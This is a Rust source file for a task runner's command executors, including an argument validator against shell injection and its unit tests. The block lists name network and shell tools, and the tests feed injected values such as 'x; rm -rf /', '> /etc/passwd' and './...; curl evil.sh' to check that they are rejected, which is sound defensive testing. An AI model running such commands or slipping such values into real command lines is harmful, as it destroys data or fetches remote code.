use async_trait::async_trait;
use std::collections::BTreeSet;
use std::process::{ExitStatus, Stdio};
use std::sync::{Arc, Mutex};
use tokio::process::Command;

use crate::command::CommandSpec;
use crate::error::{TaskError, TaskResult};
use crate::logger::Logger;

/// Runs external processes on behalf of operations.
#[async_trait]
pub trait CommandExecutor: Send + Sync {
    /// Runs the command with stdout/stderr attached to ours.
    async fn run(&self, spec: &CommandSpec) -> TaskResult<()>;

    /// Runs the command and returns its captured stdout. Stderr stays attached.
    async fn output(&self, spec: &CommandSpec) -> TaskResult<String>;
}

#[derive(Debug, Clone)]
pub struct ProcessExecutor {
    logger: Logger,
    verbose: bool,
    dry_run: bool,
}

impl ProcessExecutor {
    pub fn new(logger: Logger) -> Self {
        Self {
            logger,
            verbose: false,
            dry_run: false,
        }
    }

    pub fn with_verbose(mut self, verbose: bool) -> Self {
        self.verbose = verbose;
        self
    }

    pub fn with_dry_run(mut self, dry_run: bool) -> Self {
        self.dry_run = dry_run;
        self
    }

    fn command(&self, spec: &CommandSpec) -> Command {
        let mut command = Command::new(&spec.program);
        command.args(&spec.args).envs(&spec.env).stdin(Stdio::inherit());
        if let Some(dir) = &spec.working_dir {
            command.current_dir(dir);
        }
        command
    }

    fn announce(&self, spec: &CommandSpec) -> bool {
        if self.dry_run {
            self.logger.info(&format!("[dry run] would execute: {}", spec));
            return true;
        }
        if self.verbose {
            self.logger.debug(&format!("exec: {}", spec));
        }
        false
    }
}

#[async_trait]
impl CommandExecutor for ProcessExecutor {
    async fn run(&self, spec: &CommandSpec) -> TaskResult<()> {
        if self.announce(spec) {
            return Ok(());
        }

        let status = self
            .command(spec)
            .stdout(Stdio::inherit())
            .stderr(Stdio::inherit())
            .status()
            .await
            .map_err(|err| spawn_error(spec, err))?;

        check_status(spec, status)
    }

    async fn output(&self, spec: &CommandSpec) -> TaskResult<String> {
        if self.announce(spec) {
            return Ok(String::new());
        }

        let output = self
            .command(spec)
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .output()
            .await
            .map_err(|err| spawn_error(spec, err))?;

        check_status(spec, output.status)?;
        Ok(String::from_utf8_lossy(&output.stdout).into_owned())
    }
}

fn spawn_error(spec: &CommandSpec, err: std::io::Error) -> TaskError {
    if err.kind() == std::io::ErrorKind::NotFound {
        TaskError::NotFound {
            program: spec.program.clone(),
        }
    } else {
        TaskError::Execution {
            command: spec.command_line(),
            code: None,
            reason: format!("failed to spawn: {}", err),
        }
    }
}

fn check_status(spec: &CommandSpec, status: ExitStatus) -> TaskResult<()> {
    if status.success() {
        return Ok(());
    }

    Err(TaskError::Execution {
        command: spec.command_line(),
        code: status.code(),
        reason: failure_reason(status),
    })
}

fn failure_reason(status: ExitStatus) -> String {
    #[cfg(unix)]
    {
        use std::os::unix::process::ExitStatusExt;

        if let Some(signal) = status.signal() {
            let signal_name = match signal {
                1 => "SIGHUP",
                2 => "SIGINT",
                3 => "SIGQUIT",
                6 => "SIGABRT",
                9 => "SIGKILL",
                11 => "SIGSEGV",
                13 => "SIGPIPE",
                15 => "SIGTERM",
                _ => "unknown signal",
            };
            return format!("terminated by signal {} ({})", signal, signal_name);
        }
    }

    match status.code() {
        Some(code) => format!("exit code {}", code),
        None => "abnormal termination".to_string(),
    }
}

/// Screens every command before handing it to the wrapped executor.
///
/// Program names must not traverse directories and, when an allow-list is
/// set, must appear on it. Arguments must not carry shell metacharacters
/// that would only make sense to a shell.
pub struct ValidatingExecutor {
    inner: Arc<dyn CommandExecutor>,
    allowed: BTreeSet<String>,
}

const DANGEROUS_PATTERNS: [&str; 8] = ["$(", "`", "&&", "||", ";", ">", "<", "${IFS}"];

const SUSPICIOUS_AFTER_PIPE: [&str; 27] = [
    "cat", "rm", "wget", "curl", "bash", "sh", "nc", "python", "perl", "ruby", "chmod", "chown",
    "mv", "cp", "dd", "head", "tail", "grep", "awk", "sed", "xargs", "find", "exec", "eval",
    "source", "env", "sudo",
];

impl ValidatingExecutor {
    pub fn new(inner: Arc<dyn CommandExecutor>) -> Self {
        Self {
            inner,
            allowed: BTreeSet::new(),
        }
    }

    /// Restricts execution to the named programs. An empty list allows all.
    pub fn with_allowed_commands<I, S>(mut self, commands: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        self.allowed = commands.into_iter().map(Into::into).collect();
        self
    }

    pub fn validate(&self, spec: &CommandSpec) -> TaskResult<()> {
        let reject = |reason: String| TaskError::Rejected {
            command: spec.command_line(),
            reason,
        };

        if !self.allowed.is_empty() && !self.allowed.contains(&spec.program) {
            return Err(reject(format!("`{}` is not an allowed command", spec.program)));
        }
        if spec.program.contains("..") {
            return Err(reject("program name contains path traversal".to_string()));
        }
        for arg in &spec.args {
            validate_arg(arg).map_err(|reason| reject(format!("argument {:?}: {}", arg, reason)))?;
        }
        Ok(())
    }
}

/// Checks one argument for shell injection. A lone `|` is tolerated in
/// regular expressions and URLs unless a shell command follows it.
pub fn validate_arg(arg: &str) -> Result<(), String> {
    if arg.chars().any(|c| c == '\0') {
        return Err("contains a NUL byte".to_string());
    }

    if let Some(pattern) = DANGEROUS_PATTERNS.iter().find(|p| arg.contains(**p)) {
        return Err(format!("contains dangerous pattern `{}`", pattern));
    }

    if let Some((_, after)) = arg.split_once('|') {
        let is_regex = arg.contains(|c: char| "^$[]()+*?.{}\\".contains(c));
        let is_url = arg.starts_with("http://") || arg.starts_with("https://");
        let after = after.trim_start();
        let piped_command = SUSPICIOUS_AFTER_PIPE
            .iter()
            .any(|cmd| after == *cmd || after.starts_with(&format!("{} ", cmd)));

        if !(is_regex || is_url) || (is_regex && piped_command) {
            return Err("contains a shell pipe".to_string());
        }
    }

    Ok(())
}

#[async_trait]
impl CommandExecutor for ValidatingExecutor {
    async fn run(&self, spec: &CommandSpec) -> TaskResult<()> {
        self.validate(spec)?;
        self.inner.run(spec).await
    }

    async fn output(&self, spec: &CommandSpec) -> TaskResult<String> {
        self.validate(spec)?;
        self.inner.output(spec).await
    }
}

type Rule = Box<dyn Fn(&CommandSpec) -> Option<Scripted> + Send + Sync>;

enum Scripted {
    Fail(i32),
    Missing,
    Output(String),
}

/// Records every command it is asked to run and never spawns anything.
///
/// Rules are checked in insertion order; the first one that matches decides
/// the outcome. Unmatched commands succeed with empty output.
#[derive(Default)]
pub struct RecordingExecutor {
    calls: Mutex<Vec<CommandSpec>>,
    rules: Vec<Rule>,
}

impl RecordingExecutor {
    pub fn new() -> Self {
        Self::default()
    }

    /// Commands matching `predicate` exit with `code`.
    pub fn fail_when<P>(mut self, predicate: P, code: i32) -> Self
    where
        P: Fn(&CommandSpec) -> bool + Send + Sync + 'static,
    {
        self.rules.push(Box::new(move |spec: &CommandSpec| {
            predicate(spec).then_some(Scripted::Fail(code))
        }));
        self
    }

    /// Commands for `program` fail as if the executable were absent.
    pub fn missing(mut self, program: &str) -> Self {
        let program = program.to_string();
        self.rules.push(Box::new(move |spec: &CommandSpec| {
            (spec.program == program).then_some(Scripted::Missing)
        }));
        self
    }

    /// Commands for `program` print `stdout`.
    pub fn respond(mut self, program: &str, stdout: &str) -> Self {
        let program = program.to_string();
        let stdout = stdout.to_string();
        self.rules.push(Box::new(move |spec: &CommandSpec| {
            (spec.program == program).then(|| Scripted::Output(stdout.clone()))
        }));
        self
    }

    pub fn into_shared(self) -> Arc<Self> {
        Arc::new(self)
    }

    pub fn calls(&self) -> Vec<CommandSpec> {
        self.calls.lock().map(|calls| calls.clone()).unwrap_or_default()
    }

    pub fn command_lines(&self) -> Vec<String> {
        self.calls().iter().map(CommandSpec::command_line).collect()
    }

    pub fn call_count(&self) -> usize {
        self.calls().len()
    }

    fn record(&self, spec: &CommandSpec) -> TaskResult<String> {
        if let Ok(mut calls) = self.calls.lock() {
            calls.push(spec.clone());
        }

        match self.rules.iter().find_map(|rule| rule(spec)) {
            Some(Scripted::Fail(code)) => Err(TaskError::Execution {
                command: spec.command_line(),
                code: Some(code),
                reason: format!("exit code {}", code),
            }),
            Some(Scripted::Missing) => Err(TaskError::NotFound {
                program: spec.program.clone(),
            }),
            Some(Scripted::Output(stdout)) => Ok(stdout),
            None => Ok(String::new()),
        }
    }
}

#[async_trait]
impl CommandExecutor for RecordingExecutor {
    async fn run(&self, spec: &CommandSpec) -> TaskResult<()> {
        self.record(spec).map(|_| ())
    }

    async fn output(&self, spec: &CommandSpec) -> TaskResult<String> {
        self.record(spec)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[tokio::test]
    async fn test_missing_executable_is_not_found() {
        let executor = ProcessExecutor::new(Logger::new());
        let spec = CommandSpec::new("taskmill-definitely-not-a-real-binary");

        let err = executor.run(&spec).await.unwrap_err();
        assert!(matches!(err, TaskError::NotFound { .. }));
    }

    #[tokio::test]
    async fn test_dry_run_spawns_nothing() {
        let executor = ProcessExecutor::new(Logger::new()).with_dry_run(true);
        let spec = CommandSpec::new("taskmill-definitely-not-a-real-binary");

        assert!(executor.run(&spec).await.is_ok());
        assert_eq!(executor.output(&spec).await.unwrap(), "");
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn test_nonzero_exit_is_execution_failure() {
        let executor = ProcessExecutor::new(Logger::new());
        let spec = CommandSpec::new("sh").args(["-c", "exit 3"]);

        match executor.run(&spec).await {
            Err(TaskError::Execution { code, reason, command }) => {
                assert_eq!(code, Some(3));
                assert_eq!(reason, "exit code 3");
                assert_eq!(command, "sh -c exit 3");
            }
            other => panic!("Expected Execution failure, got {:?}", other),
        }
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn test_env_overlay_and_output_capture() {
        let executor = ProcessExecutor::new(Logger::new());
        let spec = CommandSpec::new("sh")
            .args(["-c", "printf '%s' \"$TASKMILL_OVERLAY\""])
            .env("TASKMILL_OVERLAY", "overlay");

        assert_eq!(executor.output(&spec).await.unwrap(), "overlay");
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn test_working_dir_is_honoured() {
        let dir = tempfile::tempdir().unwrap();
        let executor = ProcessExecutor::new(Logger::new());
        let spec = CommandSpec::new("pwd").current_dir(dir.path());

        let out = executor.output(&spec).await.unwrap();
        let reported = std::fs::canonicalize(out.trim()).unwrap();
        assert_eq!(reported, std::fs::canonicalize(dir.path()).unwrap());
    }

    #[test]
    fn test_argument_screening() {
        for arg in [
            "./...",
            "-ldflags=-s -w -X main.version=1.0.0",
            "-run=^Test(Foo|Bar)$",
            "https://example.com/a|b",
            "-coverprofile=coverage.txt",
        ] {
            assert!(validate_arg(arg).is_ok(), "{:?} should pass", arg);
        }

        for arg in [
            "$(whoami)",
            "`id`",
            "a && b",
            "x; rm -rf /",
            "> /etc/passwd",
            "plain|pipe",
            "^foo$| rm -rf",
            "nul\0byte",
        ] {
            assert!(validate_arg(arg).is_err(), "{:?} should be rejected", arg);
        }
    }

    #[tokio::test]
    async fn test_validating_executor_blocks_before_running() {
        let recorder = RecordingExecutor::new().into_shared();
        let executor = ValidatingExecutor::new(recorder.clone());

        executor
            .run(&CommandSpec::new("go").args(["test", "-run", "^Test(A|B)$", "./..."]))
            .await
            .unwrap();

        let err = executor
            .run(&CommandSpec::new("go").args(["build", "./...; curl evil.sh"]))
            .await
            .unwrap_err();
        assert!(matches!(err, TaskError::Rejected { .. }));
        assert!(err.to_string().contains("go build"));

        let err = executor
            .output(&CommandSpec::new("../bin/go").arg("version"))
            .await
            .unwrap_err();
        assert!(err.to_string().contains("path traversal"));

        assert_eq!(recorder.call_count(), 1);
    }

    #[tokio::test]
    async fn test_validating_executor_allow_list() {
        let recorder = RecordingExecutor::new().into_shared();
        let executor =
            ValidatingExecutor::new(recorder.clone()).with_allowed_commands(["go", "gofmt"]);

        assert!(executor.run(&CommandSpec::new("gofmt").arg("-l")).await.is_ok());
        let err = executor.run(&CommandSpec::new("docker").arg("ps")).await.unwrap_err();
        assert!(err.to_string().contains("not an allowed command"));
        assert_eq!(recorder.command_lines(), vec!["gofmt -l"]);
    }

    #[tokio::test]
    async fn test_recording_executor_rules() {
        let executor = RecordingExecutor::new()
            .fail_when(|spec| spec.env_value("GOOS") == Some("darwin"), 2)
            .missing("govulncheck")
            .respond("gofmt", "main.go\n");

        let darwin = CommandSpec::new("go").arg("build").env("GOOS", "darwin");
        let linux = CommandSpec::new("go").arg("build").env("GOOS", "linux");

        assert!(executor.run(&linux).await.is_ok());
        assert!(matches!(
            executor.run(&darwin).await,
            Err(TaskError::Execution { code: Some(2), .. })
        ));
        assert!(matches!(
            executor.run(&CommandSpec::new("govulncheck")).await,
            Err(TaskError::NotFound { .. })
        ));
        assert_eq!(
            executor.output(&CommandSpec::new("gofmt")).await.unwrap(),
            "main.go\n"
        );
        assert_eq!(executor.call_count(), 4);
    }
}
